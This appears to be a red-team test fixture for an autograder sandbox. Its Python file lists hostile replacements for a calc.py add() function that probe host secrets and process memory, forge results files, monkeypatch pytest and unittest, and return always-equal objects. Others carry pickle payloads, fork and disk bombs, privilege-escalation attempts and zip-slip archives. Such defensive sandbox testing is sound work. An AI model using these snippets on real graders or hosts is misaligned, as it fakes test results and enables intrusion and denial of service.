"""Red-team attack submissions against the 90-calc scenario assignment.

Each attack is an otherwise honest `calc.py` whose `add(a, b)` (worth 1 public
+ 2 hidden points) tries to win marks or do harm instead of adding. If the
cheat worked, `add` would return the right answer; when the sandbox holds, the
attack gets no points for `add` (score 6 of 9) and the rest is unaffected.

`{CANARY}`, `{PORT}` and `{HOST_FILE}` are filled in by the test with paths
and a port on the host. Verdicts (sandbox.md codes): E clear error, Z zero or
unaffected score, N nothing lost, H host unaffected.
"""

from __future__ import annotations

from dataclasses import dataclass, field

HONEST = '''import numpy as np


def add(a, b):
    return a + b


def mean(xs):
    return sum(xs) / len(xs)


def normalize(xs):
    arr = np.asarray(xs, dtype=np.float64)
    return arr / np.linalg.norm(arr)


class Counter:
    def __init__(self, start):
        self.n = start

    def inc(self):
        self.n += 1
        return self.n
'''

FULL, ADD_FAILS, ZERO = 9.0, 6.0, 0.0


@dataclass(frozen=True)
class Attack:
    name: str
    what: str
    add_body: str = ""              # replaces `return a + b`
    prelude: str = ""               # module-level code placed before the functions
    extra_files: dict = field(default_factory=dict)  # other files in the submission folder
    archive: list | None = None     # zip entries (name, bytes, kind) instead of a folder
    expected_score: float | None = ADD_FAILS
    at_most: bool = False           # the attack may also break its own later tests
    expected_status: str = "graded"
    expected_words: str = ""        # must appear in the message (refused archives)
    local_stops: bool = True        # does the local backend stop it too?

    def source(self, **values: str) -> str:
        text = HONEST
        if self.add_body:
            body = "\n".join("    " + line if line else "" for line in self.add_body.strip("\n").splitlines())
            text = text.replace("    return a + b", body)
        if self.prelude:
            text = self.prelude.strip("\n") + "\n\n" + text
        for key, value in values.items():
            text = text.replace("{" + key + "}", value)
        return text


ATTACKS = [
    # -- reading what must stay hidden -----------------------------------------------------
    Attack("fs_walk_hidden_tests", "walk the filesystem for hidden tests, answers or the reference", add_body='''
import os
for root, dirs, files in os.walk("/", onerror=lambda e: None):
    if any(f.startswith("test_calc_hidden") or f == "manifest.toml" for f in files) or "solutions" in dirs:
        return a + b
return a - b
''', local_stops=False),
    Attack("read_host_canary", "read a secret file on the host", add_body='''
try:
    open("{CANARY}").read()
    return a + b
except OSError:
    return a - b
''', local_stops=False),
    Attack("environment_secrets", "dump the environment for grader secrets", add_body='''
import os
return a + b if any("SECRET" in k or "TOKEN" in k for k in os.environ) else a - b
''', local_stops=True),
    Attack("read_harness_memory", "find the harness process and read its memory", add_body='''
import os
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            cmd = open(f"/proc/{pid}/cmdline", "rb").read()
            if b"pytest" in cmd:
                open(f"/proc/{pid}/mem", "rb").read(1)
                return a + b
        except OSError:
            pass
return a - b
''', local_stops=False),
    Attack("docker_socket", "look for the Docker socket (host root)", add_body='''
import os
return a + b if os.path.exists("/var/run/docker.sock") or os.path.exists("/run/docker.sock") else a - b
''', local_stops=False),
    # -- network -------------------------------------------------------------------------
    Attack("network_exfiltration", "reach a listener on the host's loopback, or any interface besides lo", add_body='''
import socket
if any(name != "lo" for _, name in socket.if_nameindex()):
    return a + b
try:
    s = socket.create_connection(("127.0.0.1", {PORT}), timeout=0.5)
    s.sendall(b"exfil")
    return a + b
except OSError:
    return a - b
''', local_stops=False),
    # -- forging results ----------------------------------------------------------------
    Attack("write_results_file", "write a perfect results.json wherever it might be read", add_body='''
import json, os
doc = json.dumps({"score": 999, "tests": []})
for path in ("results.json", "/submission/results.json", "/tmp/results.json", "/results/results.json",
             "/autograder/results/results.json", "{HOST_FILE}"):
    try:
        with open(path, "w") as fh:
            fh.write(doc)
    except OSError:
        pass
return a - b
''', local_stops=False),
    Attack("symlink_results", "plant symlinks towards results and host files", add_body='''
import os
for link, target in (("/tmp/results.json", "{HOST_FILE}"), ("results.json", "/etc/passwd")):
    try:
        os.symlink(target, link)
    except OSError:
        pass
return a - b
''', local_stops=False),
    # -- patching the test machinery -----------------------------------------------------
    Attack("monkeypatch_pytest", "patch pytest's reports to say passed", add_body='''
try:
    import _pytest.reports
    _pytest.reports.TestReport.outcome = property(lambda self: "passed")
    _pytest.reports.BaseReport.failed = property(lambda self: False)
except Exception:
    pass
return a - b
'''),
    Attack("monkeypatch_unittest", "patch unittest's assertions to do nothing", add_body='''
import unittest
unittest.TestCase.assertEqual = lambda *args, **kw: None
unittest.TestCase.fail = lambda *args, **kw: None
return a - b
'''),
    Attack("monkeypatch_builtins", "patch builtins so comparisons lie", add_body='''
import builtins
builtins.isinstance = lambda *args: True
builtins.int = type("FakeInt", (int,), {"__eq__": lambda self, other: True})
return builtins.int(a - b)
''', at_most=True),
    Attack("always_equal", "return an object equal to everything", add_body='''
class AlwaysEqual:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
return AlwaysEqual()
'''),
    Attack("int_subclass", "return an int subclass whose __eq__ lies", add_body='''
class Liar(int):
    def __eq__(self, other):
        return True
return Liar(a - b)
'''),
    Attack("pickle_payload", "return a pickle payload hoping the grader unpickles it", add_body='''
import os, pickle
class Payload:
    def __reduce__(self):
        return (os.system, ("touch {HOST_FILE}.pwned",))
return pickle.dumps(Payload())
'''),
    # -- dropping files that pytest or Python would pick up ------------------------------
    Attack("drop_conftest", "drop conftest.py / pytest.ini / .pth / sitecustomize.py wherever possible", add_body='''
import os, site, sys
payload = "import pytest\\n@pytest.hookimpl(tryfirst=True)\\ndef pytest_runtest_makereport(item, call):\\n    call.excinfo = None\\n"
targets = ["conftest.py", "pytest.ini", "/tmp/conftest.py", "/submission/conftest.py", "/tmp/sitecustomize.py"]
targets += [os.path.join(p, "evil.pth") for p in site.getsitepackages()]
targets += [os.path.join(p, "sitecustomize.py") for p in sys.path if p]
for path in targets:
    try:
        with open(path, "w") as fh:
            fh.write(payload)
    except OSError:
        pass
return a - b
''', local_stops=False),
    Attack("shadow_stdlib_modules", "ship random.py, json.py and unittest.py beside calc.py", add_body='''
import json, random, unittest
return a + b if getattr(random, "SHADOW", False) or getattr(json, "SHADOW", False) else a - b
''', extra_files={"random.py": "SHADOW = True\n", "json.py": "SHADOW = True\n", "unittest.py": "SHADOW = True\n"}),
    Attack("overwrite_own_submission", "rewrite calc.py so later tests import a different file", add_body='''
try:
    with open(__file__, "a") as fh:
        fh.write("\\nPATCHED = True\\n")
    return a + b
except OSError:
    return a - b
''', local_stops=False),
    # -- exits and signals ---------------------------------------------------------------
    Attack("sys_exit_at_import", "sys.exit(0) while being imported", prelude="import sys\nsys.exit(0)",
           expected_score=ZERO),
    Attack("os_exit_in_call", "os._exit(0) in the middle of a test", add_body='''
import os
os._exit(0)
'''),
    Attack("kill_parent", "kill the parent process (the harness, if it were there)", add_body='''
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
return a - b
''', local_stops=False),
    Attack("kill_everything", "kill every process it can see", add_body='''
import os, signal
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
return a - b
''', local_stops=False),
    # -- resource exhaustion -------------------------------------------------------------
    Attack("fork_bomb", "fork without end", add_body='''
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
''', local_stops=False),
    Attack("memory_bomb", "allocate far more memory than allowed", add_body='''
blocks = []
while True:
    blocks.append(bytearray(64 * 1024 * 1024))
'''),
    Attack("fill_tmp", "fill /tmp, then answer correctly", add_body='''
chunk = b"x" * (1 << 20)
try:
    with open("/tmp/fill", "wb") as fh:
        while True:
            fh.write(chunk)
except OSError:
    pass
return a + b
''', expected_score=FULL, local_stops=False),
    Attack("fill_dev_shm", "fill /dev/shm, then answer correctly", add_body='''
chunk = b"x" * (1 << 20)
try:
    with open("/dev/shm/fill", "wb") as fh:
        while True:
            fh.write(chunk)
except OSError:
    pass
return a + b
''', expected_score=FULL, local_stops=False),
    Attack("fill_disk", "write a huge file in the working folder and at /", add_body='''
chunk = b"x" * (1 << 20)
for path in ("big.bin", "/big.bin", "/var/tmp/big.bin", "/home/big.bin"):
    try:
        with open(path, "wb") as fh:
            for _ in range(4096):
                fh.write(chunk)
    except OSError:
        pass
return a + b
''', expected_score=FULL, local_stops=False),
    Attack("infinite_output", "print without end", add_body='''
while True:
    print("spam" * 1000)
'''),
    Attack("busy_loop", "spin the CPU forever", add_body='''
while True:
    pass
'''),
    Attack("sleep_past_limit", "sleep far past the time limit", add_body='''
import time
time.sleep(3600)
'''),
    Attack("daemon_leftover", "leave a daemon running after grading, then answer correctly", add_body='''
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import time
        while True:
            time.sleep(1)
    os._exit(0)
return a + b
''', expected_score=FULL, local_stops=False),
    # -- privileges ----------------------------------------------------------------------
    Attack("privilege_probe", "check for capabilities, no_new_privs and seccomp", add_body='''
status = dict(line.split(":", 1) for line in open("/proc/self/status") if ":" in line)
confined = (int(status["CapEff"].strip(), 16) == 0 and status["NoNewPrivs"].strip() == "1"
            and status["Seccomp"].strip() == "2")
return a - b if confined else a + b
''', local_stops=False),
    Attack("mount_and_unshare", "try mount(2) and unshare(2) to escape", add_body='''
import ctypes, ctypes.util
libc = ctypes.CDLL(ctypes.util.find_library("c") or "libc.so.6", use_errno=True)
if libc.unshare(0x10000000) == 0:  # CLONE_NEWUSER
    return a + b
if libc.mount(b"tmpfs", b"/mnt", b"tmpfs", 0, None) == 0:
    return a + b
return a - b
''', local_stops=False),
    Attack("raise_rlimits", "raise its own resource limits", local_stops=False, add_body='''
import resource
try:
    resource.setrlimit(resource.RLIMIT_NOFILE, (1 << 20, 1 << 20))
    return a + b
except (ValueError, OSError):
    return a - b
'''),
    Attack("setuid_root", "become root", add_body='''
import os
try:
    os.setuid(0)
    return a + b
except OSError:
    return a - b
''', local_stops=False),
    # -- hostile archives ----------------------------------------------------------------
    Attack("zip_slip", "archive entries escaping with ..", archive=[("../../../tmp/evil.py", b"x = 1", "file"),
                                                                  ("calc.py", HONEST.encode(), "file")],
           expected_score=None, expected_status="error", expected_words="outside the archive"),
    Attack("zip_absolute_path", "archive entry with an absolute path", archive=[("/etc/cron.d/evil", b"x", "file")],
           expected_score=None, expected_status="error", expected_words="absolute path"),
    Attack("zip_symlink_entry", "archive entry that is a symlink to a host file",
           archive=[("calc.py", b"/etc/shadow", "symlink")],
           expected_score=None, expected_status="error", expected_words="symbolic link"),
    Attack("zip_bomb", "a small archive that unpacks to gigabytes", archive=[("calc.py", b"\0" * (200 * 1024 * 1024), "file")],
           expected_score=None, expected_status="error", expected_words="zip bomb"),
]
